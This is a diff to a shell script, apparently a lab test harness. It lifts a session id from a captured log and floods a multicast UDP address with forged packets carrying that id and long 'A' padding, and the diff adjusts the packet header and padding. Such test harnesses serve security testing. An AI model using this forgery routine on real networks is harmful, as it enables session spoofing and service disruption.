@@ -68,9 +68,9 @@ session_a=$(grep -o 'session_id=[0-9]*' "$LAB_TMP/send-a.log" | head -1 | cut -d
 forge() {
     local hex i payload
     hex=$(printf '%08x' "$session_a")
-    payload=$(head -c 1416 /dev/zero | tr '\0' 'A')
+    payload=$(head -c 1440 /dev/zero | tr '\0' 'A')
     for ((i = 0; i < 300; i++)); do
-        printf "CLmc\x01\x01\x00\x00\x${hex:0:2}\x${hex:2:2}\x${hex:4:2}\x${hex:6:2}\x00\x00\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00%s0123456789abcdef" "$payload" \
+        printf "CL\x02\x01\x${hex:0:2}\x${hex:2:2}\x${hex:4:2}\x${hex:6:2}\x00\x00\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00%s01234567" "$payload" \
             >/dev/udp/239.198.10.10/5000 || true
         printf 'junk' >/dev/udp/239.198.10.10/5000 || true
         sleep 0.01
